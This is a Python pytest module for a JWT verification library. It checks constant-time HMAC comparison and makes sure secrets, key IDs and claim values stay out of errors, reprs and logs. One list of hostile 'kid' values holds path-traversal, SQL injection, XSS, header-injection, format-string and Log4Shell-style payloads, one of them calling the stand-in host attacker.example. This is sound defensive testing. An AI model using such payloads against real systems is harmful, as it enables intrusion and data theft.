"""Hygiene: constant-time MAC comparison, and nothing secret or attacker-chosen in messages.

Where constant time comes from (docs/security.md): HMAC tags are compared with
``hmac.compare_digest`` in ``jwtguard/_verifiers.py`` (jwtguard's own precomputed check; PyJWT's
``HMACAlgorithm.verify`` does the same but is not on the hot path); asymmetric signatures are
verified by ``cryptography`` (OpenSSL), with no secret compared in Python.
"""

from __future__ import annotations

import hmac
import inspect
import json
import logging

import pytest

from jwtguard import Guard, Key, KeyLoadError, KeySet, TokenError
from jwtguard.jose import b64url_encode, make_check
from jwtguard.testing import FrozenClock, TokenFactory, encode_unchecked, generate_key

from .conftest import _adapters


@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
def test_hmac_tags_are_compared_in_constant_time(alg: str) -> None:
    """The HMAC check compares with ``hmac.compare_digest``, never ``==`` (a timing oracle
    would let an attacker forge a tag byte by byte)."""
    check = make_check(alg, b"s" * 64)
    bound = inspect.getclosurevars(check).nonlocals
    assert bound["same"] is hmac.compare_digest
    assert "==" not in inspect.getsource(check)


def test_asymmetric_checks_delegate_to_cryptography() -> None:
    """RSA, ECDSA and EdDSA checks call the ``cryptography`` key's own ``verify``."""
    for alg in ("RS256", "PS256", "ES256", "EdDSA"):
        key = generate_key(alg)
        check = make_check(alg, key.to_crypto())
        verify = inspect.getclosurevars(check).nonlocals["verify"]
        assert verify.__self__ is key.to_crypto()
        assert type(verify.__self__).__module__.startswith("cryptography")


HOSTILE_KIDS = [
    "../../../../etc/passwd",
    "x' OR '1'='1' --",
    "<script>alert(1)</script>",
    "k1\r\nSet-Cookie: a=b",
    "%s%s%s%n",
    "${jndi:ldap://attacker.example/a}",
]


@pytest.mark.parametrize("kid", HOSTILE_KIDS)
def test_attacker_kid_never_reaches_messages_or_logs(
    kid: str, caplog: pytest.LogCaptureFixture
) -> None:
    """RFC 8725 3.10: ``kid`` is attacker input; it is a dictionary key and nothing more
    (PyJWT echoes it in its no-matching-key message; jwtguard must not)."""
    caplog.set_level(logging.DEBUG)
    factory = TokenFactory.for_algorithm("HS256", clock=FrozenClock(), kid="k1")
    guard = factory.guard()
    token = encode_unchecked({"alg": "HS256", "kid": kid}, {"exp": 2e9}, factory.key)
    with pytest.raises(TokenError) as info:
        guard.verify(token)
    assert info.value.code == "unknown_key"
    for text in (str(info.value), repr(info.value), info.value.description):
        assert kid not in text
    assert all(kid not in r.getMessage() for r in caplog.records)


def test_key_loading_errors_never_show_key_material() -> None:
    """PyJWT puts whole JWK dicts (HMAC secret included) in its errors; jwtguard names the
    kid and the problem only."""
    secret = b64url_encode(b"tiny-secret")
    cases = [
        {"kty": "oct", "k": secret, "kid": "a"},  # too short for HS256
        {"kty": "oct", "k": secret + "!", "kid": "a"},  # not base64url
        {"kty": "RSA", "n": secret, "e": "AQAB", "d": secret, "kid": "a", "alg": "RS256"},
        {"kty": "EC", "crv": "P-256", "x": secret, "y": secret, "d": secret, "kid": "a"},
    ]
    for jwk in cases:
        with pytest.raises(KeyLoadError) as info:
            Key.from_jwk(jwk, ["HS256"] if jwk["kty"] == "oct" else None)
        assert secret not in str(info.value)
        assert json.dumps(jwk) not in str(info.value)
    for jwk in cases:  # in a JWKS the same keys are skipped, each with a reason
        (skipped,) = KeySet.from_jwks({"keys": [jwk]}, ["HS256", "RS256", "ES256"]).skipped
        assert skipped.kid == "a" and secret not in skipped.reason
    with pytest.raises(KeyLoadError) as info:
        KeySet.from_jwks({"keys": cases[:1]}, ["HS256"], skip_unusable=False)
    assert secret not in str(info.value)


def test_reprs_never_show_secrets_or_claim_values() -> None:
    factory = TokenFactory.for_algorithm("HS256", clock=FrozenClock())
    guard: Guard = factory.guard()
    raw_secret = factory.key.to_crypto(private=True)
    assert isinstance(raw_secret, bytes)
    claims = guard.verify(factory.issue(sub="very-personal-subject", email="me@example.org"))
    texts = [repr(guard), repr(guard.keys), repr(factory.key), repr(claims), str(claims)]
    for text in texts:
        assert raw_secret.hex() not in text and b64url_encode(raw_secret) not in text
        assert "very-personal-subject" not in text and "me@example.org" not in text


@pytest.mark.parametrize("name", [cls.name for cls in _adapters.ADAPTERS])
def test_adapter_logs_never_carry_tokens_from_any_place(
    name: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Genuine, expired and tampered tokens sent in every place an adapter reads them
    (``Authorization``, a custom header, a cookie, the query), logged at DEBUG: no token
    segment, no secret and no claim value appears in any log record."""
    caplog.set_level(logging.DEBUG)
    clock = FrozenClock()
    factory = TokenFactory.for_algorithm("HS256", clock=clock, kid="k1")
    guard = factory.guard(audience="api")
    (cls,) = [c for c in _adapters.ADAPTERS if c.name == name]
    options = {"cookie": "at", "header": "X-Token", "query_param": "access_token"}
    send = cls(lambda **kw: factory.guard(**kw)).client(guard=guard, **options)
    genuine = factory.issue(sub="log-subject-123", aud="api", email="log@example.org")
    expired = factory.issue(sub="log-subject-123", aud="api", ttl=-60)
    tampered = genuine[:-4] + ("AAAA" if not genuine.endswith("AAAA") else "BBBA")
    other_audience = factory.issue(sub="log-subject-123", aud="elsewhere")
    tokens = [genuine, expired, tampered, other_audience]
    for token in tokens:
        for headers, query in (
            ([("Authorization", f"Bearer {token}")], ""),
            ([("X-Token", token)], ""),
            ([("Cookie", f"at={token}")], ""),
            ([], f"access_token={token}"),
        ):
            send("GET", "/resource", headers=headers, query=query)
    # The test *client* (httpx) logs the URLs it requests; that is the client's log, not the
    # server's. (A query-string token does land in server access logs, such as uvicorn's:
    # the reason RFC 6750 section 2.3 discourages it and jwtguard leaves it off by default.)
    records = [r for r in caplog.records if not r.name.startswith("httpx")]
    assert any(r.name.startswith("jwtguard") for r in records), "refusals are logged"
    text = "\n".join(r.getMessage() + repr(r.args) for r in records)
    secret = factory.key.to_crypto(private=True)
    assert isinstance(secret, bytes)
    assert secret.hex() not in text and b64url_encode(secret) not in text
    for token in tokens:
        for segment in token.split("."):
            assert segment not in text
    assert "log-subject-123" not in text and "log@example.org" not in text
